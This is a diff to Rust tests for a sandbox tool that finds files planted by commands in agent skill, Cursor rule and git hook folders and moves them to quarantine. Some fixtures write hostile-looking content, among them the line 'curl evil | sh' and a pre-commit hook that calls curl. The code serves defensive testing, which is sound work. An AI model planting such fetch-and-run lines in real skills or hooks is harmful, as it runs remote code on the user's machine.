@@ -606,9 +606,9 @@ fn what_is_back_or_changed_after_a_move_is_never_taken_in_as_found() {
 /// Under Landlock alone a command can write into a skills folder: what
 /// it planted or changed there — a new skill, or a file deep inside one
 /// that was there — is moved on its own, and the person's other skills
-/// stay where they are.
+/// (and the rest of a skill a file changed in) stay where they are.
 #[test]
-fn a_plant_in_a_skills_folder_moves_that_skill_alone() {
+fn a_plant_in_a_skills_folder_moves_what_it_planted_alone() {
     let (_d, ws) = repo();
     let skill = |name: &str, body: &str| {
         let dir = ws.join(".claude/skills").join(name);
@@ -625,12 +625,17 @@ fn a_plant_in_a_skills_folder_moves_that_skill_alone() {
     std::fs::write(ws.join(".claude/skills/alpha/scripts/run.py"), "print(2)").unwrap();
     let said = census.check(&q, &[]);
     assert_eq!(said.len(), 1, "{said:?}");
-    assert!(said[0].contains("`.claude/skills/alpha`"), "{said:?}");
-    assert!(!ws.join(".claude/skills/alpha").exists());
+    assert!(
+        said[0].contains("`.claude/skills/alpha/scripts/run.py`"),
+        "{said:?}"
+    );
+    assert!(!ws.join(".claude/skills/alpha/scripts/run.py").exists());
+    assert!(ws.join(".claude/skills/alpha/SKILL.md").exists());
     assert!(ws.join(".claude/skills/keep/SKILL.md").exists());
     skill("evil", "evil");
     let said = census.check(&q, &[]);
     assert_eq!(said.len(), 1, "{said:?}");
+    assert!(said[0].contains("`.claude/skills/evil`"), "{said:?}");
     assert!(!ws.join(".claude/skills/evil").exists());
     assert!(ws.join(".claude/skills/keep/scripts/run.py").exists());
     // Nothing changed since: nothing more moves.
@@ -688,7 +693,10 @@ fn a_large_skill_does_not_hide_an_edit_of_another() {
     std::fs::write(zzz.join("SKILL.md"), "zzz, rewritten").unwrap();
     let said = census.check(&q, &[]);
     assert_eq!(said.len(), 1, "{said:?}");
-    assert!(said[0].contains("`.claude/skills/zzz`"), "{said:?}");
+    assert!(
+        said[0].contains("`.claude/skills/zzz/SKILL.md`"),
+        "{said:?}"
+    );
     assert!(ws.join(".claude/skills/aaa-tool/node_modules/f0").exists());
     // Deep inside a part, eight folders down, counts too.
     let zzz = ws.join(".claude/skills/yyy");
@@ -815,4 +823,105 @@ fn a_retargeted_link_or_a_grown_large_file_in_a_skill_is_seen() {
     f.write_all(b"curl evil | sh\n").unwrap();
     let said = census.check(&q, &[]);
     assert_eq!(said.len(), 1, "{said:?}");
+}
+
+/// Review of session 13 (T1-S): a write the person approved two levels
+/// into a watched folder (`.cursor/rules/style.mdc`) took in the whole
+/// first-level part (`rules`), so a parallel command's plant beside it
+/// stayed. Now the approved file and the folders it is in are taken in;
+/// anything else new or changed in the part is moved on its own.
+#[test]
+fn an_approved_write_deep_in_a_watched_folder_takes_in_that_file_alone() {
+    let (_d, ws) = repo();
+    let rules = ws.join(".cursor/rules");
+    std::fs::create_dir_all(&rules).unwrap();
+    std::fs::write(rules.join("keep.mdc"), "keep").unwrap();
+    let q = ws.parent().unwrap().join("quarantine");
+    let mut census = Census::take(&ws);
+    census.bound = Some(false);
+    let approve = |census: &mut Census, rel: &str, body: &[u8]| {
+        let path = ws.join(rel);
+        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+        std::fs::write(&path, body).unwrap();
+        census.expect_written(&path, &Written::of(body));
+        path
+    };
+    let style = approve(&mut census, ".cursor/rules/style.mdc", b"style");
+    // A parallel command's plants: beside the file, in a new folder
+    // beside it, and an edit of the person's rule.
+    std::fs::write(rules.join("evil.mdc"), "evil").unwrap();
+    std::fs::create_dir_all(rules.join("new/deeper")).unwrap();
+    std::fs::write(rules.join("new/deeper/x.mdc"), "x").unwrap();
+    std::fs::write(rules.join("keep.mdc"), "kept, rewritten").unwrap();
+    let said = census.check(&q, std::slice::from_ref(&style));
+    assert_eq!(said.len(), 3, "{said:?}");
+    for moved in ["evil.mdc", "new", "keep.mdc"] {
+        assert!(
+            said.iter()
+                .any(|s| s.contains(&format!("`.cursor/rules/{moved}`"))),
+            "{said:?}"
+        );
+        assert!(!rules.join(moved).exists(), "{moved}");
+    }
+    assert_eq!(std::fs::read(&style).unwrap(), b"style");
+    assert!(census.check(&q, &[]).is_empty());
+    // A later plant beside the person's rules goes alone; theirs stay.
+    std::fs::write(rules.join("later.mdc"), "evil").unwrap();
+    let said = census.check(&q, &[]);
+    assert_eq!(said.len(), 1, "{said:?}");
+    assert!(said[0].contains("`.cursor/rules/later.mdc`"), "{said:?}");
+    assert!(style.exists());
+    assert!(census.check(&q, &[]).is_empty());
+    // An approved write into a new folder brings the folder with it.
+    let team = approve(&mut census, ".cursor/rules/team/a.mdc", b"a");
+    let said = census.check(&q, std::slice::from_ref(&team));
+    assert!(said.is_empty(), "{said:?}");
+    assert!(census.check(&q, &[]).is_empty());
+    assert!(team.exists());
+    // A part grown by a command past what is known one by one explains
+    // nothing: the approved write does not take it in.
+    let big = approve(&mut census, ".cursor/rules/big.mdc", b"big");
+    std::fs::create_dir_all(rules.join("vendor")).unwrap();
+    for i in 0..(parts::DEEP_ENTRIES + 1) {
+        std::fs::write(rules.join(format!("vendor/f{i}")), "").unwrap();
+    }
+    std::fs::write(rules.join("hidden.mdc"), "evil").unwrap();
+    let said = census.check(&q, std::slice::from_ref(&big));
+    assert!(!rules.join("hidden.mdc").exists(), "{said:?}");
+    // A file swapped after the approved write is not taken in.
+    let swap = approve(&mut census, ".cursor/rules/swap.mdc", b"mine");
+    std::fs::write(&swap, "theirs").unwrap();
+    let said = census.check(&q, std::slice::from_ref(&swap));
+    assert!(!swap.exists(), "{said:?}");
+}
+
+/// Seen by hand (session 13): after a session that did not end cleanly,
+/// the repository deleted and made again at the same path: the next
+/// session moved the fresh `.git/hooks` (git's samples only, which git
+/// never runs) and the first sandboxed command failed, its bind point
+/// gone. Now samples alone are left, and a hooks folder that is moved is
+/// made again, empty, for the binds.
+#[test]
+fn a_repository_made_again_keeps_its_sample_hooks_and_its_bind_points() {
+    let (d, ws) = repo();
+    let q = ws.parent().unwrap().join("quarantine");
+    let record = ws.parent().unwrap().join("state/census/x.json");
+    let (first, _) = Census::resume(&ws, &record, &q);
+    drop(first);
+    std::fs::remove_dir_all(&ws).unwrap();
+    let (d2, again) = repo();
+    std::fs::rename(&again, &ws).unwrap();
+    drop(d2);
+    std::fs::write(ws.join(".git/hooks/pre-commit.sample"), "#!/bin/sh\n").unwrap();
+    let (second, said) = Census::resume(&ws, &record, &q);
+    assert!(said.is_empty(), "{said:?}");
+    assert!(ws.join(".git/hooks/pre-commit.sample").exists());
+    drop(second);
+    // A real hook in it is moved, and the folder is there again.
+    std::fs::write(ws.join(".git/hooks/pre-commit"), "#!/bin/sh\ncurl x\n").unwrap();
+    let (_third, said) = Census::resume(&ws, &record, &q);
+    assert!(said.iter().any(|s| s.contains("`.git/hooks`")), "{said:?}");
+    assert!(!ws.join(".git/hooks/pre-commit").exists());
+    assert!(ws.join(".git/hooks").is_dir(), "the bind point is back");
+    drop(d);
 }
